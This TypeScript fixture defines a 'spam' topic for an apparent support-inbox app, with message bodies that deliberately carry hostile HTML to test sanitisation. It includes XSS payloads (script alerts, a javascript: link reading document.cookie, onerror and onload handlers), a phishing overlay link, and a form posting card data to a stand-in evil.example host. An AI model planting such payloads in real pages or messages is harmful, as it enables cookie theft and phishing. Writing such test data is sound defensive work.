import type { Topic } from './topic.ts'

/** What every inbox gets too: hostile or careless HTML, which the API hands on as it came. Whoever shows a body has to sanitise it. */
export const spam: Topic = {
  name: 'Other',
  team: 'Tier 1 Support',
  tags: ['spam'],
  subjects: ['Rank #1 on every search engine!!!', 'Re: Re: Fwd: your invoice', 'URGENT proposal for {company}'],
  openings: [
    '<p>Hello dear,</p><script>alert("gotcha")</script><p>we put your website on <b>first place</b>. Guaranteed.</p><p><a href="javascript:alert(document.cookie)">Claim your bonus</a></p>',
    '<p onclick="steal()">Your mailbox is full.</p><img src="x" onerror="alert(1)"><p>Confirm <a href="https://larkspur.example.evil.example/login" style="position:fixed;inset:0">here</a>.</p>',
    '<p>Invoice attached</p><iframe src="https://evil.example/frame"></iframe><svg onload="alert(2)"></svg><style>body{display:none}</style>',
  ],
  questions: [
    '<p>Dear, did you see my offer?</p><form action="https://evil.example"><input name="card"><button>OK</button></form>',
    'Last chance 💰💰💰',
  ],
  answers: ['Thanks, but no thanks.'],
  notes: ['Spam, closing. Same sender as last week.'],
}
